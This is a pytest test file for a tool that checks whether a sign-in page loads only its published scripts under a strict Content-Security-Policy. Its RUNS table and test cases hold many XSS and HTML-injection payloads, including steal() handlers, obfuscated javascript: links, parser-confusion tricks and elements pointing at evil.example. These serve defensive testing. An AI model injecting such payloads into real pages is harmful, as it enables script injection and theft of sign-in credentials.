"""`verify-hub` against a small hub on this machine: the published scripts pass, each way to differ is said."""

import base64
import hashlib
import http.server
import json
import re
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from referrals.agency_side import signin
from referrals.agency_side.cli import main

BOX, KEYS = b"export const box = 1;\n", b"export const keys = 2;\n"


def digest(data: bytes, name: str = "sha384") -> str:
    return f"{name}-{base64.b64encode(hashlib.new(name, data).digest()).decode()}"


LEAVE = "/static/casehub/leave.0123456789ab.js"
DIGESTS = {
    "vault/box.js": digest(BOX),
    "vault/keys.js": digest(KEYS, "sha256"),
    "casehub/leave.js": digest(b"1;"),
}
PAGE = (
    f'<script type="importmap">{json.dumps({"integrity": {"/static/vault/box.js": digest(BOX)}})}</script>'
    f'<script type="module" src="/static/vault/box.js" integrity="{digest(BOX)}"></script>'
    f'<script src="{LEAVE}"></script>'
)
POLICY = "default-src 'none'; base-uri 'none'; script-src 'self' "
HEADERS = {"Content-Type": "text/html; charset=utf-8", "Content-Security-Policy": POLICY}
SERVED = {
    "/static/vault/box.js": BOX,
    "/static/vault/keys.js": KEYS,
    "/static/casehub/leave.js": b"1;",
    LEAVE: b"1;",
    "/account/login/": PAGE.encode(),
}


@contextmanager
def hub(served: dict[str, bytes], moved: str = "", headers: dict[str, str] | None = None) -> Iterator[str]:
    class Files(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            if moved and self.path == "/static/vault/box.js":
                self.send_response(302)
                self.send_header("Location", moved)
                self.end_headers()
                return
            if self.path not in served:
                self.send_error(404)
                return
            if served[self.path].startswith(b"HTTP/") or served[self.path] == b"odd":
                self.wfile.write(served[self.path])
                return
            self.send_response(200)
            if self.path == "/account/login/":
                for name, value in (HEADERS | (headers or {})).items():
                    self.send_header(name, value)
            self.end_headers()
            self.wfile.write(served[self.path])

        def log_message(self, *_: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Files)
    thread = threading.Thread(target=server.serve_forever, args=[0.01], daemon=True)
    thread.start()
    try:
        yield f"http://localhost:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def verify(url: str, folder: Path, files: object = DIGESTS, form: str = "casehub-scripts/1") -> int:
    path = folder / "DIGESTS.json"
    path.write_text(json.dumps({"format": form, "files": files}))
    return main(["verify-hub", url, "--digests", str(path)])


def test_the_published_scripts_pass(tmp_path, capsys):
    with hub(SERVED) as url:
        assert verify(url + "/", tmp_path) == 0
    said = capsys.readouterr().out
    assert said.startswith("All 3 scripts are the published ones") and "Not looked at" in said


def _page(old: str, new: str) -> dict[str, bytes]:
    assert old in PAGE
    return {"/account/login/": PAGE.replace(old, new, 1).encode()}


@pytest.mark.parametrize(
    ("change", "said"),
    [
        ({"/static/vault/keys.js": KEYS + b" "}, "vault/keys.js is not the published script."),
        ({"/static/vault/keys.js": None}, "vault/keys.js is not served."),
        ({"/account/login/": None}, "sign-in page is not served"),
        ({LEAVE: None}, "names a script that is not served"),
        ({LEAVE: b"2;"}, "casehub/leave.js, as the sign-in page loads it, is not the published one"),
        ({**_page(LEAVE, "/static/casehub/new.js"), "/static/casehub/new.js": b"1;"}, "not published: casehub/new.js"),
        (_page("<script src=", "<script>steal()</script><script src="), "written into the page itself"),
        (_page("<script src=", "<script>steal()"), "written into the page itself"),
        (_page(f'src="{LEAVE}', 'src="//evil.example/leave'), "from elsewhere: evil.example"),
        (_page(digest(BOX) + '"></script>', digest(KEYS) + '"></script>'), "names another digest for vault/box"),
        (_page('{"integrity"', '{"imports": {"a": "/b.js"}, "integrity"'), "in the place of those published"),
        (_page(digest(BOX), digest(KEYS)), "names another digest for vault/box.js"),
        (_page('{"integrity"', '{"integrity'), "can't be read"),
        (_page(f'src="{LEAVE}"', f'src="{LEAVE}" integrity="{digest(b"")}"'),
         "is not what the sign-in page itself says"),
    ],
)  # fmt: skip
def test_what_differs_is_said(tmp_path, capsys, change, said):
    served = {path: data for path, data in {**SERVED, **change}.items() if data is not None}
    with hub(served) as url:
        assert verify(url, tmp_path) == 1
    told = capsys.readouterr().out
    assert said in told and "Don't unlock" in told


# What a browser would run and the page's own scripts are not, each before the scripts that may stand.
RUNS = {
    "onload": '<body onload="steal()">',
    "onload in capitals": "<p ONCLICK='steal()'>",
    "base": '<base href="https://evil.example/">',
    "svg script": '<svg><script href="https://evil.example/x.js"></script></svg>',
    "svg script, old": '<svg><script xlink:href="https://evil.example/x.js"></script></svg>',
    "svg animate": '<svg><animate attributeName="href" values="javascript:steal()"></animate></svg>',
    "frame": '<iframe src="javascript:steal()"></iframe>',
    "srcdoc": '<iframe srcdoc="&lt;script&gt;steal()&lt;/script&gt;"></iframe>',
    "object": '<object data="/x"></object>',
    "link": '<a href="javascript:steal()">x</a>',
    "link, spelled": '<a href="&#106;ava&Tab;script&colon;steal()">x</a>',
    "form": '<form action=" JavaScript:steal()"></form>',
    "form elsewhere": '<form action="https://evil.example/"></form>',
    "form elsewhere, by backslash": '<form action="/\\evil.example/"></form>',
    "button elsewhere": '<button formaction="https://evil.example/">x</button>',
    "exit": '<p data-exit="javascript:steal()">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "comment": "<!-- --!><script>steal()</script> -->",
    "comment, begun": "<!--><script>steal()</script>-->",
    "title": "<title><!--</title><script>steal()</script>-->",
    "title as attribute": '<title><a title="</title><script>steal()</script>">',
    "title without an end": "<title>",
    "textarea": '<textarea><a title="</textarea><script>steal()</script>"></textarea>',
    "noscript": '<noscript><p title="</noscript><script>steal()</script>"></noscript>',
    "style": "<style><!--</style><script>steal()</script>--></style>",
    "template": '<template shadowrootmode="open"></template>',
    "cdata": "<svg><![CDATA[><script>steal()</script>]]></svg>",
    "processing": "<?x ><script>steal()</script>?>",
    "slash": "<svg/onload=steal()>",
    "unquoted": "<p title=x onclick=steal()>",
    "no space": '<p title="x"onclick="steal()">',
    "form feed": '<p\fonclick="steal()">',
    "nothing": "<p\0 onclick='steal()'>",
    "twice": '<p id="a" id="b">',
    "htmx": '<p hx-on:click="steal()">',
    "htmx as data": '<p data-hx-on:click="steal()">',
    "script, unfinished": '<script src="/static/vault/box.js"',
    "script in a script": '<script type="application/json"><!--<script></script>',
    "inline of an unknown kind": '<script type="text/x">steal()</script>',
    "inline rules": '<script type="speculationrules">{"prefetch": []}</script>',
    "script elsewhere, by backslash": '<script src="/\\evil.example/x.js"></script>',
    "script below the page": '<script src="static/vault/box.js"></script>',
    "script above": '<script src="/static/../static/vault/box.js"></script>',
    "preload": '<link rel="modulepreload" href="/static/vault/box.js">',
    "style elsewhere": '<link rel="stylesheet" href="//evil.example/x.css">',
}  # fmt: skip


@pytest.mark.parametrize("way", RUNS)
def test_every_way_to_run_a_script_is_named(tmp_path, capsys, way):
    page = f"<!doctype html>\n<html>{RUNS[way]}{PAGE}".encode()
    with hub({**SERVED, "/account/login/": page}) as url:
        assert verify(url, tmp_path) == 1
    said = capsys.readouterr().out
    assert "The sign-in page" in said and "Don't unlock" in said
    assert all(line.isprintable() for line in said.splitlines())


@pytest.mark.parametrize("guard", ["_ELEMENTS", "_ATTRIBUTES", "_RUNS", "OWN", "_RAW", "_TAG"])
def test_each_guard_of_the_page_is_needed(monkeypatch, guard):
    """Sabotage: with it wide open, some way is named no more."""

    class All(frozenset):
        def __contains__(self, _one):
            return True

    wide = {
        "_ELEMENTS": All(),
        "_ATTRIBUTES": All(),
        "_RUNS": re.compile("(?!)"),
        "OWN": re.compile("(?s).*"),
        "_RAW": frozenset(),
        "_TAG": re.compile(
            r"""<(?:/(?P<end>[a-z]\w*)[^>]*|!(?P<bang>[^>]*)|(?P<start>[a-z]\w*)(?P<has>(?:"[^"]*"|[^>])*?))/?>""",
            re.I,
        ),
    }
    named = {way for way, text in RUNS.items() if signin.read_page(text)[1]}
    monkeypatch.setattr(signin, guard, wide[guard])
    assert named - {way for way, text in RUNS.items() if signin.read_page(text)[1]}


@pytest.mark.parametrize(
    ("headers", "said"),
    [
        ({"Content-Security-Policy": ""}, "any could run"),
        ({"Content-Security-Policy": "style-src 'self'"}, "any could run"),
        ({"Content-Security-Policy": POLICY + "'unsafe-inline'"}, "lets other scripts run: 'unsafe-inline'"),
        ({"Content-Security-Policy": POLICY + "'unsafe-eval'"}, "lets other scripts run: 'unsafe-eval'"),
        ({"Content-Security-Policy": POLICY + "'nonce-abc'"}, "lets other scripts run"),
        ({"Content-Security-Policy": POLICY + "https:"}, "lets other scripts run: https:"),
        ({"Content-Security-Policy": POLICY + f"'{digest(b'steal()', 'sha256')}'"}, "lets other scripts run"),
        ({"Content-Security-Policy": POLICY + "; script-src-attr 'unsafe-inline'"}, "lets other scripts run"),
        ({"Content-Security-Policy": "base-uri 'none'; default-src *"}, "lets other scripts run: *"),
        ({"Content-Security-Policy": "script-src 'self'"}, "base-uri"),
        ({"Content-Security-Policy": "script-src *; script-src 'self'; base-uri 'none'"}, "scripts run: *"),
        ({"Refresh": "0;url=https://evil.example/"}, "the header Refresh"),
        ({"Content-Type": "text/html"}, "not plain HTML in UTF-8"),
        ({"Content-Type": "text/html; charset=utf-7"}, "not plain HTML in UTF-8"),
        ({"Content-Type": "image/svg+xml; charset=utf-8"}, "not plain HTML in UTF-8"),
        ({"Content-Encoding": "br"}, "not plain HTML in UTF-8"),
    ],
    ids=str,
)  # fmt: skip
def test_headers_that_let_other_scripts_run_are_named(tmp_path, capsys, headers, said):
    with hub(SERVED, headers=headers) as url:
        assert verify(url, tmp_path) == 1
    assert said in capsys.readouterr().out


def test_a_policy_may_allow_the_import_map_and_one_strict_policy_is_enough(tmp_path, capsys):
    published = json.dumps({"integrity": {f"/static/{one}": DIGESTS[one] for one in list(DIGESTS)[:2]}})
    text = published.replace(", ", ",").replace(": ", ":").encode()
    for policy in (POLICY + f"'{digest(text, 'sha256')}'", f"script-src 'unsafe-inline', {POLICY}"):
        with hub(SERVED, headers={"Content-Security-Policy": policy}) as url:
            assert verify(url, tmp_path) == 0, capsys.readouterr()


@pytest.mark.parametrize(
    "answer",
    [b"odd", b"HTTP/1.1 200 OK\r\nContent-Length: 500\r\n\r\nabc",
     b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
     b"HTTP/1.1 200 OK\r\nX: " + b"a" * 70_000 + b"\r\n\r\n",
     b"HTTP/1.1 200 OK\r\n" + b"X: y\r\n" * 200 + b"\r\n", b"HTTP/9 x\r\n\r\n"],
    ids=["no status", "cut off", "bad chunk", "long header", "many headers", "odd version"],
)  # fmt: skip
@pytest.mark.parametrize("path", ["/static/vault/box.js", "/account/login/"])
def test_an_answer_that_is_none_is_one_sentence(tmp_path, capsys, answer, path):
    with hub({**SERVED, path: answer}) as url:
        assert verify(url, tmp_path) == 1
    said = capsys.readouterr()
    assert said.err.count("\n") == 1 and "Try again" in said.err and not said.out


@pytest.mark.parametrize(
    "url", ["http://[::1", "https://hub:abc", "https://hub:99999", "https://a b", "https://\0", "https://[x]",
            "https://hüb.example", "https://hub\n.example", "https://[::1]x"],
)  # fmt: skip
def test_an_address_that_is_none_is_one_sentence(tmp_path, capsys, url):
    assert verify(url, tmp_path) == 1
    said = capsys.readouterr().err
    assert said.count("\n") == 1 and "address" in said


@pytest.mark.parametrize(
    "name",
    ["a b.js", "a\n.js", "é.js", "a//b.js", "a.js?x", "./a.js", "a/../b.js", "https://x/a.js", "a\\b.js", ""],
)
def test_a_list_with_a_name_that_is_no_file_of_the_hub_is_refused(tmp_path, capsys, name):
    assert verify("http://localhost:1", tmp_path, {name: digest(b"")}) == 1
    assert "names a file outside" in capsys.readouterr().err


def test_json_without_end_is_refused(tmp_path, capsys):
    path = tmp_path / "DIGESTS.json"
    for text in (b'{"a":' * 100_000, b"\xff", b""):
        path.write_bytes(text)
        assert main(["verify-hub", "http://localhost:1", "--digests", str(path)]) == 1
        assert "is not a published list" in capsys.readouterr().err
    deep = f'<script type="importmap">{"[" * 100_000}</script>'.encode()
    with hub({**SERVED, "/account/login/": deep}) as url:
        assert verify(url, tmp_path) == 1
    assert "can't be read" in capsys.readouterr().out


def test_a_long_page_is_read_in_time():
    """No page makes the tool think for ever."""
    for text in (
        "<p " + "a " * 200_000,
        "<p" + " " * 400_000,
        "<" * 400_000,
        '<a href="/' + "a" * 400_000 + '!">',
    ):
        began = time.monotonic()
        signin.read_page(text)
        assert time.monotonic() - began < 5


@pytest.mark.parametrize(
    "url", ["http://hub.example", "ftp://localhost", "https://", "hub.example", "http://localhost.evil.example",
            "https://a@hub.example", "http://localhost:1/x", "file:///etc/passwd"],
)  # fmt: skip
def test_only_https_or_this_machine_is_asked(tmp_path, capsys, url):
    assert verify(url, tmp_path) == 1
    assert "address" in capsys.readouterr().err


def test_a_hub_that_sends_elsewhere_or_is_away_is_refused(tmp_path, capsys):
    with hub(SERVED) as other, hub(SERVED, moved=f"{other}/static/vault/box.js") as url:
        assert verify(url, tmp_path) == 1
    assert "elsewhere" in capsys.readouterr().err
    assert verify(url, tmp_path) == 1
    assert "can't be reached" in capsys.readouterr().err


@pytest.mark.parametrize(
    "files", [{}, [], {"a.js": "md5-xx"}, {"a.js": 3}, {"../a.js": digest(b"")}, {"/a.js": digest(b"")}]
)
def test_a_list_of_digests_that_is_none_is_refused(tmp_path, files):
    assert verify("http://localhost:1", tmp_path, files) == 1
    assert verify("http://localhost:1", tmp_path, DIGESTS, "casehub-scripts/2") == 1


def test_the_published_list_of_this_hub_is_one(capsys):
    published = Path(__file__).resolve().parents[3] / "casehub" / "static" / "vault" / "DIGESTS.json"
    static = published.parents[1]
    files = json.loads(published.read_text())["files"]
    served = {f"/static/{path}": (static / path).read_bytes() for path in files}
    with hub({**served, "/account/login/": b""}) as url:
        assert main(["verify-hub", url, "--digests", str(published)]) == 0, capsys.readouterr()
